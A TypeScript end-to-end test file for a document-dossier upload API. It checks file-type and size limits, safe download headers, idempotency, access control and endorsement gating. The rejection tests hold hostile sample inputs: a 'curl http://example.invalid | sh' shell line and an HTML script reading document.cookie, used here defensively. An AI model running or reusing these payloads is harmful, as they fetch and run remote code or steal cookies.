// The dossier over real HTTP, with a real Temporal dev server, the real worker and a fresh
// database: documents uploaded as multipart/form-data (PDF, JPEG, PNG by their content; anything
// else refused; at most 10 MB), downloaded byte for byte as attachments that never render, the
// dossier listed against the case's rules, and the endorsement refused until it is complete.
import { randomBytes } from 'node:crypto';
import { addDays, localDate } from '../../domain/calendar';
import { DEFAULT_DOSSIER_RULES } from '../../domain/dossier';
import { DEFAULT_NATIONAL_RULES } from '../../domain/national-rules';
import type { Json } from '../support/api-client';
import { type E2eStack, type TestService, startE2eStack } from '../support/service';
import { SMALL_PDF, type World, act, buildWorld, created, expectProblem, fileDossier, khoaToNamHung, ok, signedIn, upload } from '../support/world';

jest.setTimeout(60_000);

let stack: E2eStack;
let service: TestService;
let world: World;
let caseId: string;

const organizer = () => world.users.organizer.as;
const today = () => localDate(new Date());

const JPEG = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, ...randomBytes(64), 0xff, 0xd9]);
const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...randomBytes(64)]);

async function dossier(id = caseId): Promise<Json> {
  return ok(organizer().call('GET', `/v1/rotations/${id}/dossier`));
}

/** The documents the case holds (its history) and the rows stored. */
async function documentCount(id = caseId): Promise<{ held: number; stored: number }> {
  const held = (await ok(organizer().call('GET', `/v1/rotations/${id}`))).history.filter((h: Json) => h.action === 'document_added').length;
  return { held, stored: await service.prisma.caseDocument.count() };
}

beforeAll(async () => {
  stack = await startE2eStack();
  service = stack.service;
  world = await buildWorld(service);
  caseId = (await created(organizer().call('POST', '/v1/rotations', khoaToNamHung(world)))).id;
}, 180_000);

afterAll(async () => {
  await stack?.dispose();
});

describe('documents', () => {
  it.each([
    ['a PDF', 'application/pdf', SMALL_PDF, 'nomination_report'],
    ['a JPEG', 'image/jpeg', JPEG, 'personal_record'],
    ['a PNG', 'image/png', PNG, 'other'],
  ] as const)('takes %s and gives it back byte for byte, as an attachment that never renders', async (_what, contentType, bytes, kind) => {
    const stored = await created(upload(organizer(), caseId, kind, bytes, { number: '12-BC/BTC' }));
    expect(stored).toEqual({ id: expect.any(String), kind, sha256: Buffer.from(await crypto.subtle.digest('SHA-256', bytes)).toString('hex'), size: bytes.length, contentType });

    const download = await world.users.secretary.as.call('GET', `/v1/documents/${stored.id}`);
    expect(download.status).toBe(200);
    expect(Buffer.from(download.bytes!).equals(Buffer.from(bytes))).toBe(true);
    expect(download.headers.get('content-type')).toBe(contentType);
    expect(download.headers.get('content-disposition')).toMatch(/^attachment; filename="/);
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(download.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  });

  it('stores the same upload once: a repeat answers the same document and the case holds it once', async () => {
    const before = await documentCount();
    const first = await created(upload(organizer(), caseId, 'step_minutes'));
    const again = await created(upload(organizer(), caseId, 'step_minutes'));
    expect(again).toEqual(first);
    expect(await documentCount()).toEqual({ held: before.held + 1, stored: before.stored + 1 });
  });

  it('replays the first answer to a repeat with the same Idempotency-Key, and refuses the key for another file', async () => {
    const form = (bytes: Uint8Array) => {
      const f = new FormData();
      f.set('kind', 'residence_comments');
      f.set('file', new Blob([bytes as Uint8Array<ArrayBuffer>]), 'comments.pdf');
      return f;
    };
    const path = `/v1/rotations/${caseId}/documents`;
    const key = crypto.randomUUID();
    const first = await organizer().call('POST', path, form(SMALL_PDF), { idempotencyKey: key });
    const again = await organizer().call('POST', path, form(SMALL_PDF), { idempotencyKey: key });
    expect([first.status, again.status, again.headers.get('idempotent-replayed')]).toEqual([201, 201, 'true']);
    expect(again.body).toEqual(first.body);
    const other = Uint8Array.from([...SMALL_PDF, 0x25, 0x0a]);
    expectProblem(await organizer().call('POST', path, form(other), { idempotencyKey: key }), 422);
  });

  it.each([
    ['an ELF executable', Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...randomBytes(32)])],
    ['a Windows executable', new TextEncoder().encode('MZ\x90\x00\x03\x00\x00\x00')],
    ['a shell script', new TextEncoder().encode('#!/bin/sh\ncurl http://example.invalid | sh\n')],
    ['HTML', new TextEncoder().encode('<!doctype html><script>alert(document.cookie)</script>')],
  ])('refuses %s with 415 naming file, storing nothing', async (_what, bytes) => {
    const before = await documentCount();
    expectProblem(await upload(organizer(), caseId, 'other', bytes), 415, 'file');
    expect(await documentCount()).toEqual(before);
  });

  it('refuses an 11 MB file with 413 naming file, storing nothing', async () => {
    const before = await documentCount();
    const big = new Uint8Array(11 * 1024 * 1024);
    big.set(SMALL_PDF);
    expectProblem(await upload(organizer(), caseId, 'other', big), 413, 'file');
    expect(await documentCount()).toEqual(before);
  });

  it('refuses an 11 MB file sent with no Content-Length once 10 MB have passed, storing nothing', async () => {
    const before = await documentCount();
    const boundary = 'chunked-boundary';
    const head = new TextEncoder().encode(
      `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nother\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n\r\n%PDF-1.4\n`,
    );
    const chunk = new Uint8Array(1024 * 1024);
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 0) controller.enqueue(head);
        else if (sent <= 11) controller.enqueue(chunk);
        else {
          controller.enqueue(new TextEncoder().encode(`\r\n--${boundary}--\r\n`));
          controller.close();
        }
        sent++;
      },
    });
    const res = await fetch(new URL(`/v1/rotations/${caseId}/documents`, service.url), {
      method: 'POST',
      headers: { authorization: `Bearer ${await service.token('nguyen.van.an')}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
      body,
      duplex: 'half',
    } as RequestInit);
    expect([res.status, ((await res.json()) as Json).errors]).toEqual([413, [expect.objectContaining({ path: 'file' })]]);
    expect(await documentCount()).toEqual(before);
  });

  it('refuses a form without a file, of an unknown kind, or issued after today, with 400 naming the field', async () => {
    const form = new FormData();
    form.set('kind', 'other');
    expectProblem(await organizer().call('POST', `/v1/rotations/${caseId}/documents`, form), 400, 'file');
    expectProblem(await upload(organizer(), caseId, 'passport' as never), 400, 'kind');
    expectProblem(await upload(organizer(), caseId, 'health_certificate', SMALL_PDF, { issuedAt: localDate(addDays(new Date(), 2)) }), 400, 'issuedAt');
    expectProblem(await organizer().call('POST', `/v1/rotations/${caseId}/documents`, { kind: 'other' }), 415);
  });

  it('is uploaded by an organizer over the units, never by the rotated cadre nor by others', async () => {
    const own = await upload(world.users.khoa.as, caseId, 'self_assessment');
    expectProblem(own, 403);
    expect(own.body.rule).toBe('own_case');
    expectProblem(await upload(world.users.secretary.as, caseId, 'other'), 403);
    expectProblem(await upload(world.users.otherOrganizer.as, caseId, 'other'), 403);
  });

  it('is not shown, nor is its existence, to someone who may not see the case', async () => {
    const [provided] = (await dossier()).items.filter((i: Json) => i.status === 'provided');
    const outsider = world.users.otherOrganizer.as;
    const hidden = await outsider.call('GET', `/v1/documents/${provided.documentId}`);
    const unknown = await outsider.call('GET', `/v1/documents/${crypto.randomUUID()}`);
    expectProblem(hidden, 404);
    expectProblem(unknown, 404);
    expect(hidden.body.detail).toBe(unknown.body.detail);
  });
});

describe('the dossier and the endorsement', () => {
  it('lists every kind with what the case requires and what is provided', async () => {
    const listed = await dossier();
    expect(listed.complete).toBe(false);
    expect(listed.items).toHaveLength(12);
    expect(listed.items.find((i: Json) => i.kind === 'nomination_report')).toEqual({
      kind: 'nomination_report',
      required: true,
      status: 'provided',
      documentId: expect.any(String),
    });
    expect(listed.items.find((i: Json) => i.kind === 'asset_declaration')).toEqual({ kind: 'asset_declaration', required: true, status: 'missing' });
    expect(listed.items.find((i: Json) => i.kind === 'vote_minutes')).toEqual({ kind: 'vote_minutes', required: false, status: 'missing' });
  });

  it('refuses the endorsement naming dossier_incomplete and what is missing, until the dossier is complete', async () => {
    for (const party of ['cadre', 'sending_unit', 'receiving_unit']) await ok(act(organizer(), caseId, 'consultations', { party, outcome: 'agree' }));
    const refused = await act(organizer(), caseId, 'appraisal', { outcome: 'endorse' });
    expectProblem(refused, 422);
    expect(refused.body.rule).toBe('dossier_incomplete');
    expect(refused.body.detail).toContain('asset_declaration');
    expect(refused.body.detail).toContain('health_certificate');

    // A health certificate with no issue date, or older than 6 months, does not count.
    await created(upload(organizer(), caseId, 'health_certificate'));
    await created(upload(organizer(), caseId, 'health_certificate', SMALL_PDF, { issuedAt: localDate(addDays(new Date(), -200)) }));
    expect((await dossier()).items.find((i: Json) => i.kind === 'health_certificate').status).toBe('missing');

    await fileDossier(organizer(), caseId);
    const complete = await dossier();
    expect(complete.complete).toBe(true);
    for (const kind of DEFAULT_DOSSIER_RULES.required) expect(complete.items.find((i: Json) => i.kind === kind).status).toBe('provided');

    const endorsed = await ok(act(organizer(), caseId, 'appraisal', { outcome: 'endorse' }));
    expect(endorsed.status).toBe('committee_vote');
  });

  it('takes documents after the endorsement (the vote minutes come later), and none once the case has ended', async () => {
    await created(upload(organizer(), caseId, 'vote_minutes', SMALL_PDF, { number: '05-BB/HU', issuedAt: today() }));
    expect((await dossier()).items.find((i: Json) => i.kind === 'vote_minutes').status).toBe('provided');
    await ok(act(organizer(), caseId, 'withdraw', { reason: 'Thử nghiệm' }));
    expectProblem(await upload(organizer(), caseId, 'decision_scan'), 409);
  });

  it('shows the dossier to whoever sees the case, and refuses others', async () => {
    const secretary = await signedIn(service, 'tran.thi.cuc');
    expect((await ok(secretary.call('GET', `/v1/rotations/${caseId}/dossier`))).items).toHaveLength(12);
    expectProblem(await world.users.otherOrganizer.as.call('GET', `/v1/rotations/${caseId}/dossier`), 403);
  });
});

describe('the dossier the national rules require', () => {
  const { version: _version, effectiveFrom: _effectiveFrom, ...defaults } = DEFAULT_NATIONAL_RULES;
  const dossierRules = { required: ['nomination_report', 'health_certificate'], maxAgeMonths: { health_certificate: 3 } };

  it('refuses a version naming a kind twice, naming dossier.required', async () => {
    const refused = await world.admin.call('POST', '/v1/national-rules', {
      ...defaults,
      dossier: { ...dossierRules, required: ['nomination_report', 'nomination_report'] },
      effectiveFrom: today(),
    });
    expectProblem(refused, 422, 'dossier.required');
  });

  it('gates a case proposed under a version by the documents that version requires', async () => {
    const saved = await created(world.admin.call('POST', '/v1/national-rules', { ...defaults, dossier: dossierRules, effectiveFrom: today() }));
    expect(saved.dossier).toEqual(dossierRules);

    const id = (await created(organizer().call('POST', '/v1/rotations', khoaToNamHung(world)))).id;
    const listed = await dossier(id);
    expect(listed.items.filter((i: Json) => i.required).map((i: Json) => i.kind)).toEqual(['nomination_report', 'health_certificate']);
    for (const party of ['cadre', 'sending_unit', 'receiving_unit']) await ok(act(organizer(), id, 'consultations', { party, outcome: 'agree' }));
    await created(upload(organizer(), id, 'nomination_report'));
    // Older than the version's 3 months: it does not count.
    await created(upload(organizer(), id, 'health_certificate', SMALL_PDF, { issuedAt: localDate(addDays(new Date(), -120)) }));
    expect((await act(organizer(), id, 'appraisal', { outcome: 'endorse' })).body.rule).toBe('dossier_incomplete');
    await created(upload(organizer(), id, 'health_certificate', SMALL_PDF, { issuedAt: today() }));
    expect((await ok(act(organizer(), id, 'appraisal', { outcome: 'endorse' }))).status).toBe('committee_vote');
  });
});
